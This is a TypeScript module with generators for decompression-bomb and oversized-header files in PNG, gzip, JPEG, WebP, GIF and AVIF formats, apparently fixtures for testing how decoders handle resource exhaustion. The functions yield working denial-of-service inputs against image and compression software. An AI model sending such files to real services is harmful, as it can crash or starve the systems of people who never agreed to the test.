/** Pictures made to hurt whoever opens them, by code. Real ones where that is feasible. */
import { crc32, deflateRawSync, constants as zlib } from 'node:zlib';

/** A PNG of one bit a pixel that is whole and small, and large once it is opened. */
export function pngBomb(side: number): Buffer {
  const stride = Math.ceil(side / 8) + 1;
  const size = Buffer.alloc(8);
  size.writeUInt32BE(side, 0);
  size.writeUInt32BE(side, 4);
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', Buffer.concat([size, Buffer.from([1, 0, 0, 0, 0])])),
    chunk('IDAT', Buffer.concat([Buffer.from([0x78, 0x01]), ...zeros(stride * side)])),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A gzip file of zeros, or of a JPEG's beginning and zeros. */
export function gzipBomb(bytes: number): Buffer {
  const [start, ...rest] = zeros(bytes);
  const head = Buffer.from('1f8b08000000000000ff', 'hex');
  // The check sum at the end is wrong; nobody should get so far.
  return Buffer.concat([head, ...(start ? [start] : []), ...rest, Buffer.alloc(4)]);
}

const BLOCK = 1 << 20;

/** Deflated zeros and zlib's sum of them. One block is deflated and said again. */
function zeros(bytes: number): Buffer[] {
  const block = deflateRawSync(Buffer.alloc(BLOCK), { finishFlush: zlib.Z_FULL_FLUSH });
  const blocks = Array.from({ length: Math.floor(bytes / BLOCK) }, () => block);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE((((bytes % 65_521) << 16) | 1) >>> 0);
  return [...blocks, deflateRawSync(Buffer.alloc(bytes % BLOCK)), sum];
}

function chunk(name: string, content: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(name, 'latin1'), content]);
  const frame = Buffer.alloc(8);
  frame.writeUInt32BE(content.length, 0);
  frame.writeUInt32BE(crc32(named), 4);
  return Buffer.concat([frame.subarray(0, 4), named, frame.subarray(4)]);
}

/** A good JPEG whose header says another size: decoders fill up what is missing. */
export function jpegBomb(jpeg: Buffer, width: number, height: number): Buffer {
  const bomb = Buffer.from(jpeg);
  for (let at = 2; at + 9 < bomb.length; at += 2 + bomb.readUInt16BE(at + 2)) {
    const isFrame = bomb[at] === 0xff && [0xc0, 0xc1, 0xc2].includes(bomb[at + 1] ?? 0);
    if (!isFrame) continue;
    bomb.writeUInt16BE(height, at + 5);
    bomb.writeUInt16BE(width, at + 7);
    return bomb;
  }
  throw new Error('This JPEG has no frame.');
}

/** The header of a WebP with an alpha plane. */
export function webpBomb(side: number): Buffer {
  const bomb = Buffer.alloc(64);
  bomb.write('RIFF', 0, 'latin1');
  bomb.writeUInt32LE(56, 4);
  bomb.write('WEBPVP8X', 8, 'latin1');
  bomb.writeUInt32LE(10, 16);
  bomb.writeUIntLE(side - 1, 24, 3);
  bomb.writeUIntLE(side - 1, 27, 3);
  return bomb;
}

export function gifBomb(side: number): Buffer {
  const bomb = Buffer.alloc(64);
  bomb.write('GIF89a', 0, 'latin1');
  bomb.writeUInt16LE(side, 6);
  bomb.writeUInt16LE(side, 8);
  return bomb;
}

/**
 * The boxes of an AVIF that say how large its images are.
 * @param crop cuts all but a corner away
 */
export function avifBomb(sides: readonly number[], crop = false): Buffer {
  const extents = sides.map((side) => box('ispe', words(0, side, side)));
  const cut = crop ? [box('clap', words((sides[0] ?? 0) - 800, 1, 600, 1, 0, 1, 0, 1))] : [];
  const properties = box('iprp', box('ipco', ...extents, ...cut));
  return Buffer.concat([
    box('ftyp', Buffer.from('avif\0\0\0\0avifmif1', 'latin1')),
    box('meta', words(0), properties),
    box('mdat', Buffer.alloc(32)),
  ]);
}

function box(name: string, ...contents: readonly Buffer[]): Buffer {
  const content = Buffer.concat(contents);
  return Buffer.concat([words(content.length + 8), Buffer.from(name, 'latin1'), content]);
}

function words(...values: readonly number[]): Buffer {
  const bytes = Buffer.alloc(values.length * 4);
  for (const [place, value] of values.entries()) bytes.writeUInt32BE(value, place * 4);
  return bytes;
}
